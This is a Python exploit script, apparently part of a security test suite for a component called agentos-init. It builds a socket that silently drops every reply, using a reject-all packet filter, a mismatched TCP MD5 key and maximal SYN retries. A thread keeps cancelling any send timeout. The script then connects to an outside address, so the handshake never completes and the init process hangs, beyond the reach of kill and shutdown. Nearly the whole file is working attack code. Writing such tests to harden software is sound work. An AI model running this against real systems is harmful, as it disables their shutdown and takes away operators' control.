"""Makes a handshake that never completes, so that agentos-init, which carries the connection out, would wait for it and
hear neither kill nor the end of the kernel. It has what it wanted when an attempt is still waiting after 5 seconds."""
import ctypes
import threading

from attack import *

ATTEMPTS, STALLED_SECONDS = 12, 5
SO_SNDTIMEO, SO_ATTACH_FILTER, TCP_SYNCNT, TCP_MD5SIG = 21, 26, 7, 14


def deaf_socket():
    """A socket that drops what its peer answers, by a filter that takes nothing and by a key that the peer lacks."""
    sock = socket.socket()
    code = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0))
    program = struct.pack("HxxxxxxP", 1, ctypes.addressof(code))
    key = struct.pack("H", socket.AF_INET) + b"\0\0" + socket.inet_aton("127.0.0.1") + b"\0" * 120
    key += struct.pack("BBHi", 0, 0, 4, 0) + b"abcd" + b"\0" * 76
    dropping = 0
    for level, option, value in ((socket.SOL_SOCKET, SO_ATTACH_FILTER, program), (6, TCP_MD5SIG, key),
                                 (6, TCP_SYNCNT, 127)):
        try:
            sock.setsockopt(level, option, value)
            dropping += option != TCP_SYNCNT
        except OSError as error:
            print("option", option, error)
    if dropping == 0:
        refused("no way to drop answers")
    return sock


def keep_waiting(sock, over):
    """Takes back, again and again, whatever limit somebody sets on the socket."""
    setsockopt = ctypes.CDLL(None).setsockopt
    never = ctypes.create_string_buffer(struct.pack("ll", 0, 0))
    while not over.is_set():
        for _ in range(100):
            setsockopt(sock.fileno(), socket.SOL_SOCKET, SO_SNDTIMEO, never, len(never) - 1)


for attempt in range(ATTEMPTS):
    sock, over = deaf_socket(), threading.Event()
    threading.Thread(target=keep_waiting, args=(sock, over), daemon=True).start()
    waiting = threading.Thread(target=lambda: print(attempt, sock.connect_ex(("93.184.215.14", 80)), flush=True), daemon=True)
    waiting.start()
    waiting.join(STALLED_SECONDS)
    if waiting.is_alive():
        print("SUCCEEDED: agentos-init waits", flush=True)
        os._exit(0)
    over.set()
refused()
